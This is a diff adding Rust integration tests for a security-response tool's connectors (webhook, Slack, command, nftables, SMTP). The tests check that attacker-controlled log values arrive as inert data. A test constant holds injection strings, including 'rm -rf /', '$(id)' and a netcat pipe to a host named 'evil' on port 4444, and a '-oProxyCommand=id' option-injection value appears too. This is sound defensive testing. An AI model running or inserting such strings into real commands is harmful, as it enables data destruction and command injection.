@@ -1,0 +1,533 @@
+//! Connectors against real receivers on loopback: an HTTP listener checking Standard Webhooks
+//! signatures, a Slack-style receiver, a real program's argument vector, nftables in a network
+//! namespace the test creates, and an SMTP server (aiosmtpd, from PyPI). Field values full of shell
+//! metacharacters, newlines and template syntax must arrive as inert data.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpListener;
+use std::process::Command;
+use std::sync::mpsc;
+use std::time::Duration;
+
+use secops_respond::connector::{deliver, verify, Operation, Prepare, Request};
+use secops_respond::template::Context;
+use secops_respond::{Config, Secrets, Target, TargetKind};
+use serde_json::{json, Value};
+
+/// A value an attacker could write into a log line.
+const HOSTILE: &str =
+    "x'; rm -rf / #\n$(id) `uname` | nc evil 4444 && {{ alert.secret }} <!channel> %s";
+
+fn under_ci() -> bool {
+    std::env::var("CI").is_ok_and(|v| v == "true")
+}
+
+/// One HTTP request as a receiver saw it.
+#[derive(Debug)]
+struct Received {
+    headers: Vec<(String, String)>,
+    body: String,
+}
+
+impl Received {
+    fn header(&self, name: &str) -> Option<&str> {
+        self.headers
+            .iter()
+            .find(|(k, _)| k.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v.as_str())
+    }
+}
+
+/// Answers each request with the next status, handing over what it got.
+fn receiver(statuses: Vec<u16>) -> (String, mpsc::Receiver<Received>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/hook", listener.local_addr().unwrap());
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        for status in statuses {
+            let Ok((stream, _)) = listener.accept() else {
+                return;
+            };
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut headers = Vec::new();
+            let mut line = String::new();
+            reader.read_line(&mut line).unwrap();
+            loop {
+                line.clear();
+                reader.read_line(&mut line).unwrap();
+                let l = line.trim_end();
+                if l.is_empty() {
+                    break;
+                }
+                let (k, v) = l.split_once(':').unwrap();
+                headers.push((k.trim().to_string(), v.trim().to_string()));
+            }
+            let length: usize = headers
+                .iter()
+                .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))
+                .map(|(_, v)| v.parse().unwrap())
+                .unwrap_or(0);
+            let mut body = vec![0; length];
+            reader.read_exact(&mut body).unwrap();
+            let mut stream = stream;
+            write!(
+                stream,
+                "HTTP/1.1 {status} X\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok"
+            )
+            .unwrap();
+            tx.send(Received {
+                headers,
+                body: String::from_utf8(body).unwrap(),
+            })
+            .unwrap();
+        }
+    });
+    (url, rx)
+}
+
+fn context() -> Context {
+    let mut c = Context::new();
+    c.add(
+        "alert",
+        json!({"rule.name": "SSH brute force", "source.ip": "185.220.101.47",
+               "user.name": HOSTILE, "threshold.count": 14}),
+    )
+    .add("target", json!("185.220.101.47"))
+    .add("run", json!({"id": 7, "alert": 42}));
+    c
+}
+
+fn prepare(config: &Config, action: &str, secrets: &Secrets, operation: Operation) -> Request {
+    let action = &config.actions[action];
+    let connector = &config.connectors[&action.connector];
+    let target = Target::parse(action.target, "185.220.101.47").unwrap();
+    let context = context();
+    connector
+        .prepare(&Prepare {
+            action,
+            operation,
+            target: &target,
+            context: &context,
+            delivery_id: "msg_2f1c0de",
+            at_unix: std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .unwrap()
+                .as_secs() as i64,
+            secrets,
+        })
+        .unwrap()
+}
+
+#[test]
+fn a_signed_webhook_arrives_with_a_valid_signature_and_its_values_inert() {
+    let (url, rx) = receiver(vec![503, 200]);
+    let config = Config::parse(
+        "respond.toml",
+        &format!(
+            r#"
+[[connector]]
+name = "soc"
+kind = "webhook"
+url = "{url}"
+signing_secret = "hook"
+
+[[action]]
+id = "block-source"
+target = "ip"
+connector = "soc"
+backoff = "10ms"
+params = {{ user = "{{{{ alert.user.name }}}}", count = "{{{{ alert.threshold.count }}}}", note = "by secops" }}
+"#
+        ),
+    )
+    .unwrap();
+    let mut secrets = Secrets::new_for_tests();
+    secrets.insert("hook", "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw");
+    let request = prepare(&config, "block-source", &secrets, Operation::Do);
+    let delivery = deliver(
+        &config.connectors["soc"],
+        &request,
+        &secrets,
+        &config.actions["block-source"],
+    );
+    assert!(delivery.ok, "{delivery:?}");
+    // The 503 was tried again: two requests, one delivery id.
+    assert_eq!(delivery.attempts, 2);
+    let first = rx.recv_timeout(Duration::from_secs(5)).unwrap();
+    let second = rx.recv_timeout(Duration::from_secs(5)).unwrap();
+    assert_eq!(first.header("webhook-id"), second.header("webhook-id"));
+    assert_eq!(second.header("webhook-id"), Some("msg_2f1c0de"));
+    let timestamp: i64 = second.header("webhook-timestamp").unwrap().parse().unwrap();
+    let signature = second.header("webhook-signature").unwrap();
+    assert!(verify(
+        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
+        "msg_2f1c0de",
+        timestamp,
+        &second.body,
+        signature,
+        timestamp + 10,
+    ));
+    // A body changed on the way fails the check.
+    assert!(!verify(
+        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
+        "msg_2f1c0de",
+        timestamp,
+        &second.body.replace("185.220.101.47", "185.220.101.48"),
+        signature,
+        timestamp,
+    ));
+    let body: Value = serde_json::from_str(&second.body).unwrap();
+    assert_eq!(body["data"]["params"]["user"], HOSTILE);
+    assert_eq!(body["data"]["params"]["count"], 14);
+    assert_eq!(body["data"]["target"]["value"], "185.220.101.47");
+    assert_eq!(body["data"]["run"]["alert"], 42);
+}
+
+#[test]
+fn a_slack_message_defangs_and_escapes_values_and_its_url_stays_secret() {
+    let (url, rx) = receiver(vec![200]);
+    let config = Config::parse(
+        "respond.toml",
+        r#"
+[[connector]]
+name = "chat"
+kind = "slack"
+url_secret = "slack-url"
+
+[[action]]
+id = "tell-soc"
+target = "ip"
+connector = "chat"
+params = { text = "Blocked {{ target }} (user {{ alert.user.name }}, rule <{{ alert.rule.name }}>)" }
+"#,
+    )
+    .unwrap();
+    let mut secrets = Secrets::new_for_tests();
+    secrets.insert("slack-url", &url);
+    let request = prepare(&config, "tell-soc", &secrets, Operation::Do);
+    let shown = serde_json::to_string(&request).unwrap();
+    assert!(!shown.contains(&url), "{shown}");
+    assert!(shown.contains("<secret slack-url>"));
+    let delivery = deliver(
+        &config.connectors["chat"],
+        &request,
+        &secrets,
+        &config.actions["tell-soc"],
+    );
+    assert!(delivery.ok, "{delivery:?}");
+    let got = rx.recv_timeout(Duration::from_secs(5)).unwrap();
+    let text = serde_json::from_str::<Value>(&got.body).unwrap()["text"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        text.starts_with("Blocked 185[.]220[.]101[.]47 (user "),
+        "{text}"
+    );
+    assert!(text.contains("&lt;!channel&gt;"), "{text}");
+    assert!(!text.contains("<!channel>"), "{text}");
+    // The template's own text is not escaped.
+    assert!(text.ends_with("rule <SSH brute force>)"), "{text}");
+}
+
+#[test]
+fn a_program_gets_an_argument_vector_after_a_double_dash_and_no_options_from_logs() {
+    let config = Config::parse(
+        "respond.toml",
+        r#"
+[[connector]]
+name = "ticket"
+kind = "command"
+program = "/usr/bin/python3"
+args = ["-c", "import sys, json; print(json.dumps(sys.argv[1:]))"]
+
+[[action]]
+id = "open-ticket"
+target = "user"
+target_value = "{{ alert.user.name }}"
+connector = "ticket"
+params = { options = ["--queue=soc"], args = ["{{ alert.user.name }}", "{{ alert.source.ip }}"] }
+"#,
+    )
+    .unwrap();
+    let secrets = Secrets::new_for_tests();
+    let action = &config.actions["open-ticket"];
+    let request = prepare(&config, "open-ticket", &secrets, Operation::Do);
+    let delivery = deliver(&config.connectors["ticket"], &request, &secrets, action);
+    assert!(delivery.ok, "{delivery:?}");
+    let argv: Vec<String> = serde_json::from_str(delivery.response.trim()).unwrap();
+    assert_eq!(argv, ["--queue=soc", "--", HOSTILE, "185.220.101.47"]);
+
+    // A value that starts with '-' is refused, not passed.
+    let mut c = Context::new();
+    c.add(
+        "alert",
+        json!({"user.name": "-oProxyCommand=id", "source.ip": "185.220.101.47"}),
+    );
+    let target = Target::parse(TargetKind::User, "bob").unwrap();
+    let refused = config.connectors["ticket"].prepare(&Prepare {
+        action,
+        operation: Operation::Do,
+        target: &target,
+        context: &c,
+        delivery_id: "d",
+        at_unix: 0,
+        secrets: &secrets,
+    });
+    assert!(
+        matches!(&refused, Err(e) if e.to_string().contains("starts with '-'")),
+        "{refused:?}"
+    );
+
+    // Options are constants: a template among them is refused when the file loads.
+    let err = Config::parse(
+        "bad.toml",
+        r#"
+[[connector]]
+name = "ticket"
+kind = "command"
+program = "/usr/bin/true"
+[[action]]
+id = "x"
+target = "user"
+connector = "ticket"
+params = { options = ["--user={{ alert.user.name }}"] }
+"#,
+    )
+    .unwrap_err();
+    assert!(err.to_string().contains("options are constants"), "{err}");
+}
+
+fn nft_ready() -> bool {
+    Command::new("nft")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success())
+        && Command::new("ip")
+            .arg("-V")
+            .output()
+            .is_ok_and(|o| o.status.success())
+}
+
+struct Netns(String);
+
+impl Drop for Netns {
+    fn drop(&mut self) {
+        let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
+    }
+}
+
+#[test]
+fn nftables_blocks_and_unblocks_an_address_inside_a_network_namespace() {
+    if !nft_ready() {
+        assert!(
+            !under_ci(),
+            "nft and ip are needed under CI (Debian's nftables and iproute2)"
+        );
+        eprintln!("skipped: nft or ip missing");
+        return;
+    }
+    let ns = Netns(format!("secops-respond-{}", std::process::id()));
+    let made = Command::new("ip")
+        .args(["netns", "add", &ns.0])
+        .status()
+        .unwrap();
+    assert!(made.success(), "ip netns add (the test needs root)");
+    let config = Config::parse(
+        "respond.toml",
+        &format!(
+            r#"
+[[connector]]
+name = "edge"
+kind = "nftables"
+table = "inet secops"
+set = "blocked"
+netns = "{}"
+create = true
+
+[[action]]
+id = "block"
+target = "ip"
+connector = "edge"
+params = {{ operation = "add" }}
+inverse = "unblock"
+duration = "1h"
+
+[[action]]
+id = "unblock"
+target = "ip"
+connector = "edge"
+params = {{ operation = "delete" }}
+"#,
+            ns.0
+        ),
+    )
+    .unwrap();
+    let secrets = Secrets::new_for_tests();
+    let list = || {
+        let out = Command::new("ip")
+            .args([
+                "netns", "exec", &ns.0, "nft", "list", "set", "inet", "secops", "blocked",
+            ])
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let add = prepare(&config, "block", &secrets, Operation::Do);
+    let d = deliver(
+        &config.connectors["edge"],
+        &add,
+        &secrets,
+        &config.actions["block"],
+    );
+    assert!(d.ok, "{d:?}");
+    assert!(list().contains("185.220.101.47"), "{}", list());
+    let del = prepare(&config, "unblock", &secrets, Operation::Undo);
+    let d = deliver(
+        &config.connectors["edge"],
+        &del,
+        &secrets,
+        &config.actions["unblock"],
+    );
+    assert!(d.ok, "{d:?}");
+    assert!(!list().contains("185.220.101.47"), "{}", list());
+    // An nftables action acts on addresses only.
+    let err = Config::parse(
+        "bad.toml",
+        "[[connector]]\nname = \"edge\"\nkind = \"nftables\"\n[[action]]\nid = \"x\"\ntarget = \"user\"\nconnector = \"edge\"\nparams = { operation = \"add\" }\n",
+    )
+    .unwrap_err();
+    assert!(err.to_string().contains("blocks addresses"), "{err}");
+}
+
+/// aiosmtpd's Mailbox handler writing to a maildir, on a free port.
+struct Smtpd {
+    child: std::process::Child,
+    port: u16,
+}
+
+impl Drop for Smtpd {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn smtpd(maildir: &std::path::Path) -> Option<Smtpd> {
+    let ok = Command::new("python3")
+        .args(["-c", "import aiosmtpd"])
+        .status()
+        .is_ok_and(|s| s.success());
+    if !ok {
+        assert!(!under_ci(), "aiosmtpd (PyPI) is needed under CI");
+        return None;
+    }
+    let port = TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let child = Command::new("python3")
+        .args([
+            "-m",
+            "aiosmtpd",
+            "-n",
+            "-l",
+            &format!("127.0.0.1:{port}"),
+            "-c",
+            "aiosmtpd.handlers.Mailbox",
+        ])
+        .arg(maildir)
+        .spawn()
+        .unwrap();
+    // Dropped (killed and waited for) however the wait below ends.
+    let server = Smtpd { child, port };
+    for _ in 0..200 {
+        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
+            return Some(server);
+        }
+        std::thread::sleep(Duration::from_millis(25));
+    }
+    panic!("aiosmtpd did not listen on {port}");
+}
+
+#[test]
+fn an_email_arrives_with_one_subject_line_and_the_values_as_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let maildir = dir.path().join("mail");
+    let Some(server) = smtpd(&maildir) else {
+        eprintln!("skipped: aiosmtpd missing");
+        return;
+    };
+    let config = Config::parse(
+        "respond.toml",
+        &format!(
+            r#"
+[[connector]]
+name = "mail"
+kind = "smtp"
+server = "127.0.0.1:{}"
+from = "secops@soc.example"
+to = ["oncall@soc.example"]
+
+[[action]]
+id = "page"
+target = "ip"
+connector = "mail"
+params = {{ subject = "Blocked {{{{ target }}}} for {{{{ alert.user.name }}}}", body = "User: {{{{ alert.user.name }}}}\n.\nend" }}
+"#,
+            server.port
+        ),
+    )
+    .unwrap();
+    let secrets = Secrets::new_for_tests();
+    let request = prepare(&config, "page", &secrets, Operation::Do);
+    let d = deliver(
+        &config.connectors["mail"],
+        &request,
+        &secrets,
+        &config.actions["page"],
+    );
+    assert!(d.ok, "{d:?}");
+    let new = maildir.join("new");
+    let mut found = None;
+    for _ in 0..200 {
+        if let Some(entry) = std::fs::read_dir(&new).ok().and_then(|mut r| r.next()) {
+            found = Some(std::fs::read_to_string(entry.unwrap().path()).unwrap());
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(25));
+    }
+    let message = found.expect("a message in the maildir");
+    let headers: Vec<&str> = message.split("\n\n").next().unwrap().lines().collect();
+    let subject: Vec<&&str> = headers
+        .iter()
+        .filter(|h| h.starts_with("Subject:"))
+        .collect();
+    assert_eq!(subject.len(), 1, "{message}");
+    // The newline in the value became a space: no header was added.
+    assert!(
+        subject[0].contains("x'; rm -rf / # $(id)"),
+        "{}",
+        subject[0]
+    );
+    assert!(!headers.iter().any(|h| h.starts_with("$(id)")), "{message}");
+    let Request::Mail { body, .. } = &request else {
+        panic!()
+    };
+    assert_eq!(body, &format!("User: {HOSTILE}\n.\nend"));
+    let encoded: String = message
+        .split("\n\n")
+        .nth(1)
+        .unwrap()
+        .lines()
+        .collect::<Vec<_>>()
+        .concat();
+    use base64::Engine;
+    let decoded = base64::engine::general_purpose::STANDARD
+        .decode(encoded.trim())
+        .unwrap();
+    assert_eq!(String::from_utf8(decoded).unwrap(), *body);
+}
